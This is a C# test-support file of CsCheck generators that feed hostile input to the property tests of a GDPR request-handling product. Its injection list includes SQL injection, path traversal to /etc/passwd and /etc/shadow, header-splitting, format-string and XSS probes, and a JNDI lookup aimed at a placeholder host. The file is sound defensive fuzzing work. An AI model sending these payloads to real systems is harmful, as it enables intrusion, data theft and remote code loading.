using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using CsCheck;

namespace Gdpr.Workflows.TestSupport.Hostile;

/// <summary>
/// Generators of hostile input (CsCheck): near-valid and broken identifiers, look-alike unicode, injection strings,
/// random JSON of every shape. Shared by the property tests and the reliability report's hostile-input scenario,
/// so both throw the same kinds of input at the product.
/// </summary>
public static class HostileGen
{
    /// <summary>Strings written to break parsers, queries, paths, headers and logs.</summary>
    public static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE requests; --", "\" OR 1=1 --", "1; SELECT * FROM vault", "%' UNION SELECT token FROM tasks --",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/hosts", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "a\r\nSet-Cookie: evil=1", "x\r\n\r\nHTTP/1.1 200 OK", "line1\nline2", "\r\nX-Injected: yes",
        "%s%s%s%s%n", "{0}{1}{99}", "%x%x%x", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>",
        "\0", "null", "undefined", "NaN", "-1", "1e309", "99999999999999999999999", "true", "[]", "{}",
        "\u202Eevil\u202C", "\uFEFF", "\u200B", new string('A', 5000), "😀", "\uD800", "\uDC00x",
    ];

    // Letters that look Latin but are Cyrillic or Greek: the classic homograph material.
    private const string LookAlikes = "аеорсхуіјѕԁӏΑΒΕΗΙΚΜΝΟΡΤΥΧοαν";

    private const string Invisibles = "\u200B\u200C\u200D\u2060\uFEFF\u202E\u202D\u00AD\u180E";

    private const string Whitespace = " \t\n\r\u00A0\u2028\u2029\u3000\u2003";

    /// <summary>A plain ASCII atom: letters, digits, some symbols allowed in local parts.</summary>
    public static readonly Gen<string> Atom = Gen.String[Gen.Char["abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"], 1, 12];

    /// <summary>A valid-looking domain, ASCII or internationalised.</summary>
    public static readonly Gen<string> Domain = Gen.OneOf(
        Gen.Select(Atom, Gen.OneOf("com", "org", "co.uk", "de", "example")).Select((a, tld) => $"{a}.{tld}"),
        Gen.OneOf("bücher.de", "пример.рф", "例え.jp", "xn--bcher-kva.de", "xn--e1afmkfd.xn--p1ai", "EXAMPLE.COM", "example.com.", "müller.EXAMPLE"));

    /// <summary>Email addresses: valid, near-valid, look-alike, invisible, malformed, injected.</summary>
    public static readonly Gen<string> Email = Gen.Frequency(
        (4, Gen.Select(Atom, Domain).Select((l, d) => $"{l}@{d}")),
        (2, Gen.Select(Atom, Domain, Gen.Int[0, 3]).Select((l, d, n) => $"{new string(' ', n)}{l}@{d}{new string('\t', n % 2)}")),
        (3, Gen.Select(Atom, Domain, Gen.Char[LookAlikes], Gen.Int[0, 20], Gen.Bool).Select(LookAlike)),
        (2, Gen.Select(Atom, Domain, Gen.Char[Invisibles], Gen.Int[0, 20]).Select((l, d, c, at) => Insert($"{l}@{d}", c.ToString(), at))),
        (2, Gen.Select(Atom, Domain, Gen.Char[Whitespace], Gen.Int[1, 20]).Select((l, d, c, at) => Insert($"{l}@{d}", c.ToString(), at))),
        (2, Gen.Select(Atom, Domain).Select((l, d) => $"{l}\u0301@{d}")),
        (2, Gen.Select(Atom, Domain).Select((l, d) => $"{FullWidth(l)}＠{d}")),
        (3, Gen.OneOf(
            "@", "a@", "@b.com", "a@@b.com", "a@b@c.com", "\"quoted\"@example.com", "a..b@example.com", ".a@example.com", "a.@example.com",
            "a@[127.0.0.1]", "a@localhost", "a@-bad.com", "a@bad-.com", "a@xn--zz.com", "a@xn--.com", "a@ab--cd.com", "a@123.456",
            "a@exa mple.com", "a@example..com", "a(comment)@example.com", "ö@example.com", "Ω@example.com", "a@ex_ample.com",
            "a@ＥＸＡＭＰＬＥ.com", "a@e\u0301xample.com", "a@xn--80ak6aa92e.com", "a@xn--pple-43d.com", "a@xn--ls8h.la",
            new string('a', 65) + "@example.com", "a@" + string.Join('.', Enumerable.Repeat(new string('b', 63), 5)), "a@b." + new string('c', 64))),
        (3, Gen.Select(Gen.OneOf(Injections), Domain).Select((i, d) => $"{i}@{d}")),
        (2, Gen.String[Gen.Char, 0, 40]));

    /// <summary>Phone numbers: E.164, national, separators, letters, unicode digits, several '+'.</summary>
    public static readonly Gen<string> Phone = Gen.Frequency(
        (4, Gen.Select(Gen.OneOf("+", "00", "", "+0", "++"), Gen.String[Gen.Char['0', '9'], 1, 18]).Select((p, d) => p + d)),
        (3, Gen.Select(Gen.OneOf("+44 (0)20 ", "+1 (555) ", "0044-", "07700 ", "+49.30."), Gen.String[Gen.Char["0123456789 -.()"], 1, 14]).Select((p, d) => p + d)),
        (2, Gen.Select(Gen.String[Gen.Char['0', '9'], 8, 12], Gen.OneOf("x12", " ext 5", "٣", "０", "\u200B", "+1", "a", "#", "\n")).Select((d, s) => "+" + d + s)),
        (2, Gen.OneOf(Injections)),
        (1, Gen.String[Gen.Char, 0, 30]));

    /// <summary>Customer ids and keyed values: printable, padded, invisible, over-long, injected.</summary>
    public static readonly Gen<string> FreeIdentifier = Gen.Frequency(
        (4, Gen.String[Gen.Char["ABCDEFGHIJ0123456789-_:/."], 1, 40]),
        (2, Gen.Select(Atom, Gen.Char[Whitespace + Invisibles]).Select((a, c) => c + a + c)),
        (2, Gen.OneOf(Injections)),
        (1, Gen.Select(Gen.Char['a', 'z'], Gen.Int[250, 1100]).Select((c, n) => new string(c, n))),
        (2, Gen.String[Gen.Char, 0, 50]));

    /// <summary>Keys of keyed identifiers: valid, reserved, upper-case, symbols, empty.</summary>
    public static readonly Gen<string?> Key = Gen.Frequency(
        (4, Gen.OneOf<string?>("loyalty", "member.no", "ticket_id", "a", "x-1")),
        (2, Gen.OneOf<string?>("email", "phone", "customer_id", "customer.id", "Loyalty ", " LOYALTY", null, "", "1abc", "a b", "a/b", "é")),
        (1, Gen.String[Gen.Char, 0, 70].Select(s => (string?)s)));

    /// <summary>Identifier kinds, valid and not.</summary>
    public static readonly Gen<string> Kind = Gen.Frequency(
        (8, Gen.OneOf("email", "phone", "customer_id", "keyed")),
        (2, Gen.OneOf("EMAIL", " phone ", "customerId", "customer-id", "ssn", "", "e-mail", "Email\0")));

    /// <summary>A JSON scalar: strings (injections too), numbers at the edges, booleans, null.</summary>
    public static readonly Gen<JsonNode?> Scalar = Gen.Frequency<JsonNode?>(
        (3, Gen.String[Gen.Char, 0, 20].Select(s => (JsonNode?)JsonValue.Create(s))),
        (2, Gen.OneOf(Injections).Select(s => (JsonNode?)JsonValue.Create(s))),
        (2, Gen.OneOf<JsonNode?>(JsonValue.Create(0), JsonValue.Create(-1), JsonValue.Create(int.MaxValue), JsonValue.Create(long.MinValue), JsonValue.Create(1.5e300), JsonValue.Create(0.1))),
        (1, Gen.OneOf<JsonNode?>(JsonValue.Create(true), JsonValue.Create(false), null)));

    /// <summary>Any JSON value, nested a few levels: the shape a body can have when it is not what the route expects.</summary>
    public static readonly Gen<JsonNode?> Json = Gen.Recursive<JsonNode?>((depth, inner) => depth >= 4
        ? Scalar
        : Gen.Frequency<JsonNode?>(
            (5, Scalar),
            (2, inner.Array[0, 4].Select(items => (JsonNode?)new JsonArray([.. items.Select(Detach)]))),
            (2, Gen.Select(Gen.OneOf("identifiers", "kind", "value", "channel", "outcome", "receipt", "taskToken", "error", "x", "__proto__", "constructor"), inner).Array[0, 4]
                .Select(fields => (JsonNode?)ToObject(fields)))));

    /// <summary>Text that is not JSON, or is broken JSON.</summary>
    public static readonly Gen<string> MalformedJson = Gen.Frequency(
        (3, Gen.OneOf("{", "}", "[", "{\"identifiers\": [", "{\"a\":}", "{'single': 'quotes'}", "{\"a\": 1,}", "{\"a\" 1}", "NaN", "{\"a\": NaN}",
            "{\"a\": \"\\uD800\"}", "{\"a\": \"unterminated}", "\u0000{}", "{\"a\":1}{\"b\":2}", "<xml/>", "identifiers=a@b.com", "{\"a\": 01}", "{\"a\": .5}",
            "\uFEFF{\"identifiers\": []}", "/* comment */ {}", "{\"a\": tru}", "[1, 2, 3]", "\"just a string\"", "42", "null")),
        (2, Gen.String[Gen.Char, 1, 60]),
        (1, Gen.Byte.Array[1, 60].Select(bytes => Encoding.Latin1.GetString(bytes))));

    /// <summary><paramref name="depth"/> nested arrays around an empty object: deep nesting without being large.</summary>
    public static string DeeplyNested(int depth) => new string('[', depth) + "{}" + new string(']', depth);

    /// <summary><paramref name="depth"/> nested objects, valid JSON.</summary>
    public static string DeeplyNestedObjects(int depth)
    {
        var text = new StringBuilder(depth * 8);
        for (var i = 0; i < depth; i++)
        {
            text.Append("{\"a\":");
        }

        text.Append('1').Append('}', depth);
        return text.ToString();
    }

    /// <summary>True when <paramref name="text"/> mixes Latin letters with Greek or Cyrillic ones in one word: a homograph.</summary>
    public static bool MixesScripts(string text)
    {
        var latin = false;
        var other = false;
        foreach (var rune in text.EnumerateRunes())
        {
            if (!Rune.IsLetter(rune))
            {
                continue;
            }

            if (rune.Value < 0x250 || rune.Value is >= 0x1E00 and <= 0x1EFF)
            {
                latin = true;
            }
            else if (rune.Value is >= 0x370 and <= 0x52F or >= 0x1F00 and <= 0x1FFF)
            {
                other = true;
            }
        }

        return latin && other;
    }

    private static string LookAlike(string local, string domain, char lookAlike, int at, bool inDomain)
    {
        if (inDomain)
        {
            var labels = domain.Split('.');
            labels[0] = Insert(labels[0], lookAlike.ToString(), at);
            return $"{local}@{string.Join('.', labels)}";
        }

        return $"{Insert(local, lookAlike.ToString(), at)}@{domain}";
    }

    private static string Insert(string text, string what, int at) => text.Insert(Math.Min(at, text.Length), what);

    private static string FullWidth(string text) => string.Concat(text.Select(c => c is >= '!' and <= '~' ? ((char)(c - '!' + 0xFF01)).ToString() : c.ToString(CultureInfo.InvariantCulture)));

    private static JsonNode? Detach(JsonNode? node) => node?.DeepClone();

    private static JsonObject ToObject((string Name, JsonNode? Value)[] fields)
    {
        var json = new JsonObject();
        foreach (var (name, value) in fields)
        {
            json[name] = value?.DeepClone();
        }

        return json;
    }
}
